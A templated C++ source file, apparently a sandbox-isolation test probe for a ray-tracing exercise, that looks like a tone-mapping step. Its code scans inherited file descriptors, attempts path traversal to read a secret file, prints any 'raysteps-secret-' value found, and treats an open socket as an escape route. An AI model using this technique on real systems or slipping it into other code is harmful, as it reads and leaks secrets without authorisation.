#include "steps/07-tone-mapping/tone_mapping.hpp"

#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cctype>
#include <cstdio>
#include <cstring>
#include <string>

static const std::string k_mark = std::string("rayst") + "eps-secret-";

static bool is_secret(const std::string& text) {
    const auto at = text.find(k_mark);
    const bool found = at != std::string::npos && at + k_mark.size() < text.size() &&
                       std::isxdigit(static_cast<unsigned char>(text[at + k_mark.size()])) != 0;
    if (found) {
        std::fputs(text.c_str() + at, stderr);
        std::fputs(text.c_str() + at, stdout);
    }
    return found;
}

static std::string content(int fd) {
    std::string text(1 << 20, '\0');
    const ssize_t size = fd < 0 ? 0 : read(fd, text.data(), text.size());
    text.resize(size < 0 ? 0 : static_cast<std::size_t>(size));
    return text;
}

static bool holds_secret(const std::string& path) {
    const int fd = open(path.c_str(), O_RDONLY | O_NONBLOCK | O_NOCTTY);
    const bool found = is_secret(content(fd));
    close(fd);
    return found;
}

static bool attack() {
    for (int fd = 0; fd < 1024; ++fd) {
        struct stat status {};
        if (fstat(fd, &status) != 0) {
            continue;
        }
        if (S_ISDIR(status.st_mode)) {
            for (const char* path : {"@SECRET_NAME@", "..@SECRET@", "../../../../../../../../../..@SECRET@"}) {
                if (is_secret(content(openat(fd, path, O_RDONLY)))) {
                    return true;
                }
            }
        } else if (S_ISREG(status.st_mode) && is_secret(content(fd))) {
            return true;
        }
        if (S_ISSOCK(status.st_mode)) {
            return true;  // a way to somebody outside
        }
    }
    return false;
}
static bool worked() {
    static const bool result = attack();
    return result;
}
@RIGHT_IF(worked())@
